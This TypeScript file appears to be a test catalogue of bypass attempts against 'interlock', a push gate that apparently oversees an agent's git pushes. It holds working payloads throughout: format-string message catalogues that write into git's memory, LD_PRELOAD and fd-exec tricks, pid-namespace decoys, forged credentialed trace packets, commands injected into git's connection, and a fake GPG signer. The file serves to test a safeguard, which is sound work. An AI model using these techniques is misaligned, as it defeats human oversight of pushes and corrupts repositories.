/**
 * To change what git itself sends: by messages of the caller's, which git prints as formats, and by the program that
 * signs a push. An install on a PATH does not stop them: there the caller may load code of his own, too.
 */
import { preloaded } from "./attempts-push.ts";
import { stopped, type Attempt, type Transports } from "./attempt.ts";

/**
 * A catalogue with one message, below `$OUT/po/xx`. Its text is a format that writes (`%n`) into a variable of git's,
 * which one depends on how git was built: here as Debian 12 builds it.
 */
const catalogue = (message: string, text: string): string => `cat >$OUT/mo.py <<'P'
import struct, os
key, text = b"${message}", ${text}
for name in ("xx", "C.UTF-8"):
    folder = os.environ["OUT"] + "/po/" + name + "/LC_MESSAGES"
    os.makedirs(folder)
    with open(folder + "/git.mo", "wb") as f:
        f.write(struct.pack("<11I", 0x950412de, 0, 1, 28, 36, 0, 0, len(key), 44, len(text), 45 + len(key)) + key + b"\\0" + text + b"\\0")
P
python3 $OUT/mo.py`;

/** Sets TRANSPORT_PUSH_NO_HOOK in the flags of `git push`. */
const withoutHook = `forge; ${catalogue("more than one receivepack given, using the first", 'b"%c" * 97 + b"%415c%n"')}
git config --add remote.origin.receivepack git-receive-pack
git config --add remote.origin.receivepack git-receive-pack`;

/** Makes `git send-pack` send what has the same name on both sides, whatever ids it was told. */
const matching = `good; g=$(git rev-parse HEAD); git update-ref refs/heads/main main~; forge
${catalogue("%s does not point to a valid object!", 'b"%c" * 62 + b"%38c%n"')}
executable .git/hooks/pre-push <<'X'
#!/bin/sh
echo 1234567890123456789012345678901234567890 >.git/refs/heads/zz
X`;

/** What would send the bad commit where nothing is in the way: there is no `send-pack` to be told ids. */
const plainly =
  "test -e /etc/interlock/config.yaml || { rm .git/hooks/pre-push .git/refs/heads/zz; git push -q -f origin main; }";

const byPath = "LANGUAGE=../../../$OUT/po/xx LC_ALL=C.UTF-8";

/** The bad commit goes as a file of a tree, which has no message; the program that signs names a ref for it. */
const signer = `forge; b=$(git rev-parse HEAD); git update-ref refs/heads/main HEAD~
t=$(perl -e 'print "100644 x\\0", pack("H*", shift)' $b | git hash-object -t tree -w --literally --stdin)
executable $OUT/gpg <<X
#!/bin/sh
cat >/dev/null
echo >&2; echo '[GNUPG:] SIG_CREATED x' >&2
printf '%040d %s refs/heads/new\\n' 0 $b
printf -- '-----BEGIN PGP SIGNATURE-----\\n\\nx\\n-----END PGP SIGNATURE-----\\n'
X
case $REMOTE in /*) git config --global receive.certNonceSeed x ;; esac
git config gpg.program $OUT/gpg; git config user.signingKey x`;

/** In a process namespace of the agent's own, the number of the push is that of a decoy outside, which only tries a push. */
const decoy = `forge
# A decoy outside: its command line is that of a dry run.
mkdir -p $OUT/d; echo 'sleep 30;' >$OUT/d/push
cat >$OUT/ns.pl <<'X'
use POSIX ();
# the decoy, in the outer pid namespace
my $decoy = fork // die;
if (!$decoy) { chdir "$ENV{OUT}/d"; exec { "/usr/bin/perl" } "git", "push", "--dry-run" }
select undef, undef, undef, 0.5;
# user namespace with the same uid, and a pid namespace; no mount namespace
syscall(272, 0x10000000 | 0x20000000) == 0 or die "unshare: $!";
sub put { open my $f, ">", $_[0] or die "$_[0]: $!"; syswrite $f, $_[1] or die "$_[0]: $!" }
put "/proc/self/setgroups", "deny"; put "/proc/self/uid_map", "1000 1000 1"; put "/proc/self/gid_map", "1000 1000 1";
my $init = fork // die;
if (!$init) {
  # pid 1 inside. The next process gets the decoy's number.
  put "/proc/sys/kernel/ns_last_pid", $decoy - 1;
  my $p = fork // die;
  if (!$p) { print STDERR "inside: $$ decoy: $decoy\\n"; exec "git", "push", $ENV{REMOTE}, "main" }
  waitpid $p, 0; my $s = $?; select undef,undef,undef,0.5; POSIX::_exit($s >> 8);
}
waitpid $init, 0; my $s = $? >> 8; kill 9, $decoy; waitpid $decoy, 0; exit $s;
X
timeout 40 perl $OUT/ns.pl`;

/** An honest way to the remote: it passes on every byte. After the first packet it finds git's trace, the socket `s`. */
const proxyThat = (writes: string): string => `forge
executable $OUT/proxy <<'X'
#!/usr/bin/env python3
import socket,sys,os,time,struct,threading
c=socket.create_connection((sys.argv[1],int(sys.argv[2])))
def up():
    while True:
        b=os.read(0,65536)
        if not b: break
        c.sendall(b)
    c.shutdown(socket.SHUT_WR)
threading.Thread(target=up,daemon=True).start()
d=b""
while len(d)<4: d+=c.recv(4-len(d))
n=int(d,16)
while len(d)<n: d+=c.recv(n-len(d))
os.write(1,d); time.sleep(0.4)
for fd in range(9,2,-1):
    try: s=socket.socket(fileno=os.dup(fd))
    except OSError: continue
    if s.family!=socket.AF_UNIX: continue
${writes}
time.sleep(0.2)
while True:
    b=c.recv(65536)
    if not b: break
    os.write(1,b)
X
export BAD=$(git rev-parse HEAD) GIT_PROXY_COMMAND=$OUT/proxy`;

const sayAs = (process: string): string =>
  `s.sendmsg([("12:00:00.000000 pkt-line.c:80           packet:         push< %s refs/heads/zz\\n"%os.environ["BAD"]).encode()],[(socket.SOL_SOCKET,socket.SCM_CREDENTIALS,struct.pack("iII",${process},os.getuid(),os.getgid()))])`;

/** There, a process with rights over the namespace writes to git's trace in git's name. */
const inGitsName = `${proxyThat(`    try: ${sayAs("os.getppid()")}
    except OSError as e: print("no:",e,file=sys.stderr)`)}
timeout 40 unshare -U -c -p -f --keep-caps sh -c 'for n in 1 2 3; do git push $REMOTE main:refs/heads/new$n && break; done'`;

/** The process that writes has rights over a user namespace, and git runs in another one below it. */
const fromAbove = `${proxyThat(`    u=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM); u.connect(os.environ["OUT"]+"/sock")
    socket.send_fds(u,[str(os.getppid()).encode()],[fd]); print("said",u.recv(100),file=sys.stderr)
    break`)}
cat >$OUT/helper.py <<'X'
import socket,os,struct
l=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM); l.bind(os.environ["OUT"]+"/sock"); l.listen(1); open(os.environ["OUT"]+"/ready","w")
while True:
    c,_=l.accept(); m,fds,_,_=socket.recv_fds(c,100,1); s=socket.socket(fileno=fds[0])
    try: ${sayAs("int(m)")}; c.send(b"forged")
    except OSError as e: c.send(str(e).encode())
X
timeout 40 unshare -U -c -p -f --mount-proc --keep-caps sh -c 'python3 $OUT/helper.py & until test -e $OUT/ready; do sleep 0.05; done; unshare -U -c git push $REMOTE main:refs/heads/new; kill $!'`;

/** What git starts during a push writes one more command into the connection, which git leaves open for its children. */
const writeInto = (capabilities: string, rest: string): string => `import socket,sys,os,stat
line=("0"*40+" "+os.environ["BAD"]+" refs/heads/new${capabilities}").encode()
for fd in range(3,30):
    try: mode=os.fstat(fd).st_mode
    except OSError: continue
    if stat.S_ISSOCK(mode) and socket.socket(fileno=os.dup(fd)).family in (socket.AF_INET,socket.AF_INET6) or stat.S_ISFIFO(mode):
        try: os.write(fd,b"%04x"%(len(line)+4)+line${rest}); print("wrote to",fd,file=sys.stderr); break
        except OSError: pass
`;
const writeCommand = writeInto("", "");
const badAsFile = `g=$(git rev-parse HEAD); forge; export BAD=$(git rev-parse HEAD); git update-ref refs/heads/main $g
t=$(perl -e 'print "100644 x\\0", pack("H*", shift)' $BAD | git hash-object -t tree -w --literally --stdin)`;
const byOwnHook = `${badAsFile}
executable .git/hooks/pre-push <<'X'
#!/usr/bin/env python3
${writeCommand}X
git push origin $t:refs/tags/t`;
const byNegotiation = `good; ${badAsFile}
executable $OUT/prog <<'X'
#!/usr/bin/env python3
${writeCommand}X
git config url.$REMOTE.pushInsteadOf x:; git config "url.ext::$OUT/prog .insteadOf" $REMOTE; git config protocol.ext.allow always
git config push.negotiate true; git push x: main:refs/heads/ok $t:refs/tags/t`;
const bySendersNegotiation = `good; ${badAsFile}
executable $OUT/prog <<'X'
#!/usr/bin/env python3
${writeCommand}X
git config "url.ext::$OUT/prog .insteadOf" $REMOTE; git config protocol.ext.allow always
git -c push.negotiate=true send-pack $REMOTE $g:refs/heads/ok $t:refs/tags/t`;
/** The remote's old commit is missing here, so git fetches it while it is connected. */
const byLazyFetch = `git clone -q $REMOTE $OUT/c
(cd $OUT/c; GIT_AUTHOR_NAME=Other good; git push -q origin HEAD:refs/heads/ok)
good; ${badAsFile}
executable $OUT/prog <<'X'
#!/usr/bin/env python3
import os,sys
p,words=os.getppid(),[]
for _ in range(4):
    words.append(open("/proc/%d/cmdline"%p).read()); p=int(open("/proc/%d/stat"%p).read().rsplit(")",1)[1].split()[1])
# Not when the gate's own questions start it.
if "send-pack" not in words[2]+words[3]: sys.exit(1)
${writeCommand}X
git config core.repositoryFormatVersion 1; git config extensions.partialClone x; git config remote.x.promisor true
git config remote.x.url "ext::$OUT/prog"; git config protocol.ext.allow always
git send-pack --force $REMOTE $g:refs/heads/ok $t:refs/tags/t`;

/** An index that makes git ask the program of `core.fsmonitor`, with a submodule, for whose sake a push reads it. */
const monitor = (write: string): string => `
printf '[submodule "s"]\\n\\tpath = s\\n\\turl = ./s\\n' >.gitmodules; echo hi >f; git add .gitmodules f
git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s
executable $OUT/fs <<'X'
#!/usr/bin/env python3
import os,sys,time
print("x\\0/\\0",end="",flush=True)
caller=open("/proc/%d/cmdline"%os.getppid(),"rb").read().split(b"\\0")
if b"push" not in caller and b"send-pack" not in caller: sys.exit()
${write}time.sleep(1)
X
git config core.fsmonitor $OUT/fs; git update-index --fsmonitor; git status --short >/dev/null`;
/** One more command, beside those of a push that is good. */
const moreByMonitor = `${badAsFile}${monitor(writeCommand)}
git commit -q -m "Good

$TRAILER"`;
const pushWithMonitor = "git push --recurse-submodules=check origin main:refs/heads/ok $t:refs/tags/t";
/** A whole request: git itself sends none in a dry run. */
const allByMonitor = `forge; export BAD=$(git rev-parse HEAD)
git rev-list --objects $BAD | cut -d' ' -f1 | git pack-objects --stdout -q >$OUT/pack
${monitor(writeInto("\\0report-status", '+b"0000"+open(os.environ["OUT"]+"/pack","rb").read()'))}`;

/** Over http, git's helper reads a line end in the name of what is sent as the end of its command. */
const noteAsBranch = `forge "Notes added by 'git notes add'"; b=$(git rev-parse HEAD); git update-ref refs/heads/main HEAD~
good; git push -q $REMOTE main:refs/remotes/refs/notes/x/HEAD
name=$(printf 'refs/heads/y\npush +%s:refs/notes/x\npush main' $b)
printf '100644 %s\\t%s\\0' $(echo x | git hash-object -w --stdin) "$name" | GIT_INDEX_FILE=$OUT/i git update-index -z --index-info
git tag tt $(GIT_INDEX_FILE=$OUT/i git write-tree); git update-ref refs/heads/refs/heads/y main
git push -f $REMOTE "tt:$name:refs/heads/dst"; git push -f $REMOTE $b:refs/heads/new`;

/**
 * Under limits, what interlock gives `send-pack` to read is lost: no file can hold it, and the second process is one too many.
 * Processes count for themselves in a user namespace; those that fill it up leave when git itself runs, which needs some.
 */
const lostInput = `good; git branch fine; git update-ref refs/heads/main main~; forge
cat >$OUT/limits.py <<'X'
import os,resource,signal,time
pid,fillers=os.getpid(),4
for _ in range(fillers):
    if os.fork()==0:
        end=time.time()+8
        while time.time()<end and b"send-pack\\0--" not in open("/proc/%d/cmdline"%pid,"rb").read(): pass
        os._exit(0)
signal.signal(signal.SIGCHLD,signal.SIG_IGN); signal.signal(signal.SIGXFSZ,signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE,(700,700))
resource.setrlimit(resource.RLIMIT_NPROC,(fillers+2,fillers+2))
os.execvp("git",["git","send-pack",os.environ["REMOTE"],"fine:refs/heads/"+"/".join(["a"*200]*6)])
X
for try in 1 2 3 4; do timeout 30 unshare -U -c python3 $OUT/limits.py || :; done`;
/** Without interlock, nothing is lost that way. */
const pushedPlainly = "test -e /etc/interlock/config.yaml || git push -q -f origin main";

const over = (transports: Transports, attempts: readonly Attempt[]): Attempt[] =>
  attempts.map((attempt) => ({ ...attempt, over: transports }));

export const sendingAttempts: readonly Attempt[] = [
  ...over(
    ["path", "git"],
    stopped("seal", {
      "a message catalogue that skips the hook, by `LANGUAGE`": `${withoutHook}; ${byPath} git push origin main`,
      "the same by `GIT_TEXTDOMAINDIR`": `${withoutHook}; GIT_TEXTDOMAINDIR=$OUT/po LANGUAGE=xx LC_ALL=C.UTF-8 git push origin main`,
      "a pre-loaded library that finds no hook, with the binary executed by a descriptor": `${preloaded}
      g=$(readlink -f $(command -v git)); PATH=$PATH:$(dirname $g)/../lib/interlock/real python3 -c 'import os,sys; f=os.open(sys.argv[1],os.O_RDONLY|os.O_CLOEXEC); os.environ["LD_PRELOAD"]=os.environ["OUT"]+"/x.so"; os.execve(f,["git","push","-q",os.environ["REMOTE"],"main"],os.environ)' $g`,
      "the same without `LANGUAGE`": `${withoutHook}; GIT_TEXTDOMAINDIR=$OUT/po LC_ALL=C.UTF-8 git push origin main`,
    }),
  ),
  ...over(
    ["path", "git"],
    stopped("gate", {
      "a decoy with the number of the push, in a process namespace": decoy,
    }),
  ),
  ...over(
    ["path", "git"],
    stopped("seal", {
      "the repository's hook writes into git's connection": byOwnHook,
      "the program of `core.fsmonitor` does, while git looks for submodules": `${moreByMonitor}; ${pushWithMonitor}`,
      "the same by an alias and settings": `${moreByMonitor}; git config push.recurseSubmodules check; git -c alias.p=push p origin main:refs/heads/ok $t:refs/tags/t`,
      "the same by `GIT_TEST_FSMONITOR`": `${moreByMonitor}; git config --unset core.fsmonitor; GIT_TEST_FSMONITOR=$OUT/fs ${pushWithMonitor}`,
      "a whole push by that program, below a dry run": `${allByMonitor}; git commit -q -m x; git push --dry-run --recurse-submodules=check origin main:refs/heads/ok`,
      "the same below `send-pack --dry-run`": `${allByMonitor}; git send-pack --dry-run $REMOTE :f:refs/tags/x`,
    }),
  ),
  ...over(
    ["git"],
    stopped("seal", {
      "a program of another transport writes into git's connection": byNegotiation,
      "the same below `send-pack`, which was told to negotiate": bySendersNegotiation,
      "the same below `send-pack`, in a partial clone": byLazyFetch,
      "the same by a `git` in the caller's exec-path": bySendersNegotiation.replace(
        "git -c",
        "executable $OUT/p/git <<'X'\n#!/bin/sh\ncase $* in *fetch*) exec $OUT/prog ;; esac\nexec /usr/lib/git-core/git \"$@\"\nX\ngit --exec-path=$OUT/p -c",
      ),
      "the same below a push that interlock is asked to explain": byNegotiation.replace(
        /git push x:/,
        "INTERLOCK_DRY_RUN=1 git push x:",
      ),
    }),
  ),
  ...over(
    ["git"],
    stopped("gate", {
      "limits under which `send-pack` reads no refspec, and so sends what both sides have": `${lostInput}; ${pushedPlainly}`,
    }),
  ),
  ...over(
    ["git", "http"],
    stopped("seal", {
      "a pre-loaded library that finds no hook, by a script that names the binary": `${preloaded}
      g=$(readlink -f $(command -v git)); printf '#!%s push\\n' $(dirname $g)/git >$OUT/g; chmod +x $OUT/g; git config url.$REMOTE.insteadOf $OUT/g
      PATH=$PATH:$(dirname $g)/../lib/interlock/real LD_PRELOAD=$OUT/x.so $OUT/g main:refs/heads/new`,
    }),
  ),
  ...over(
    ["git"],
    stopped("gate", {
      "packets in git's name, in a process namespace": inGitsName,
      "the same from a user namespace above": fromAbove,
    }),
  ),
  ...over(
    ["http"],
    stopped("gate", { "a note by its name, which the remote has as another ref's": noteAsBranch }),
  ),
  ...over(
    ["http"],
    stopped("seal", {
      "a message catalogue that makes `send-pack` send other refs": `${matching}\nGIT_REF_PARANOIA=0 ${byPath} git push origin $g:refs/heads/main || :; ${plainly}`,
    }),
  ),
  ...over(
    ["path", "git", "http"],
    stopped("refusal", {
      "a signed push whose signature names another ref": `${signer}; git push --signed origin $t:refs/tags/t`,
      "the same, if the remote asks for it": `${signer}; git push --signed=if-asked origin $t:refs/tags/t`,
      "the same by `push.gpgSign`": `${signer}; git -c push.gpgSign=true push origin $t:refs/tags/t`,
    }),
  ),
  ...over(
    ["path", "git"],
    stopped("refusal", {
      "`send-pack --signed`, whose signature names another ref": `${signer}; git send-pack --signed $REMOTE $t:refs/tags/t`,
    }),
  ),
];
